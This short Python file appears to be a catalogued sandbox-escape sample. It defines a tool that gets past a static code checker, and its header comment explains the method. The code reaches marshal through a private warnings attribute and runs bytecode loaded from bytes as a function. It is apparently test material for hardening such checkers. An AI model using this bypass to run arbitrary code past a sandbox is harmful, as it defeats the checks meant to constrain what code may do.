# family: deserialisers
# escape: marshal is always in sys.modules and is reached through catch_warnings()._module.sys (a private attribute
# the checker accepts because the tool defines `_module`); type(tool) is types.FunctionType (type() of a function the
# tool defines is not treated as a class), so marshal.loads(data) becomes a callable function: code from bytes.
import warnings

class Slot:
    _module = None

def tool(blob: bytes):
    marshal = warnings.catch_warnings()._module.sys.modules["marshal"]
    return type(tool)(marshal.loads(blob), {})()
